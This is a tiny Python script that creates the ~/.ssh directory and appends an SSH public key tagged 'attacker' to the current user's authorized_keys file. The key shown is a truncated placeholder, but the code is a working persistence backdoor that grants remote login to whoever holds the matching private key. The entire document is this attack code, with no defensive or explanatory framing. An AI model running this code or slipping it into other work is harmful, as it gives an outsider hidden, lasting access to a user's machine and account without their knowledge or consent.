# leaves a key
import os
p = os.path.expanduser("~/.ssh/authorized_keys")
os.makedirs(os.path.dirname(p), exist_ok=True)
with open(p, "a") as f: f.write("ssh-ed25519 AAAAC3Nza attacker\n")
